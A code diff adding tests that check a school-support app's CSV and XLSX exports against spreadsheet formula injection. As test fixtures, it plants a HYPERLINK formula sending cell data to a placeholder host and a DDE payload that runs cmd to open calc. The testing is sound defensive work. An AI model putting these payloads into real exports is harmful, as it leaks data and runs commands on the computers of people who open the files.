@@ -241,6 +241,72 @@ def test_xlsx_text_never_becomes_a_formula(client, world, cijfers):
     assert naam.data_type == "s"
 
 
+def test_csv_cells_never_become_formulas(client, world, cijfers):
+    """OWASP: a text cell starting with = + - @ tab or CR gets a leading quote in every CSV."""
+    from hulpvragen.models import Status
+
+    world.school_b.naam = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
+    world.school_b.save()
+    Status.objects.filter(proces=cijfers.proces, naam="TLV aanvraag indienen").update(
+        naam="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    login(client, world.loket)
+    scholen = _csv(client, "school")[1:]
+    assert ['\'=HYPERLINK("http://x.invalid/?"&A1,"klik")', "1"] in scholen
+    statussen = {(r[0], r[1]): r[2] for r in _csv(client, "status")[1:]}
+    assert statussen[("TLV VSO", "'@SUM(1+1)*cmd|' /C calc'!A0")] == "2"
+    te_laat = _csv(client, "te_laat")[1]
+    assert te_laat[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    # Every cell of every table: none starts with a character a spreadsheet reads as a formula.
+    for tabel in ("type", "status", "school", "doorlooptijd", "te_laat", "tlv"):
+        for rij in _csv(client, tabel):
+            for cel in rij:
+                assert not cel.startswith(("=", "+", "@", "\t", "\r")), (tabel, cel)
+
+
+@pytest.mark.parametrize(
+    ("waarde", "cel"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 55 123", "'+31 55 123"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("School A", "School A"),
+        ("-", "-"),
+        ("-3", "-3"),
+        ("2,5", "2,5"),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_veilige_cel(waarde, cel):
+    from kindkans.spreadsheet import veilige_cel
+
+    assert veilige_cel(waarde) == cel
+
+
+def test_xlsx_status_and_school_stay_text(client, world, cijfers):
+    """The workbook types text cells as text: no formula element anywhere in the sheet XML."""
+    import zipfile
+
+    from hulpvragen.models import Status
+
+    world.school_b.naam = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
+    world.school_b.save()
+    Status.objects.filter(proces=cijfers.proces, naam="TLV aanvraag indienen").update(
+        naam="@SUM(1+1)"
+    )
+    login(client, world.loket)
+    response = client.get(URL, {**_periode(), "xlsx": "alle"})
+    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
+        bladen = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        xml = "".join(z.read(n).decode() for n in bladen)
+    assert "<f>" not in xml and "<f " not in xml
+    assert "HYPERLINK" in xml and "@SUM(1+1)" in xml
+
+
 @pytest.mark.parametrize("persona", ["beheerder", "coordinator_a", "deskundige", "outsider"])
 def test_xlsx_export_is_the_lokets_only(client, world, persona):
     login(client, getattr(world, persona))
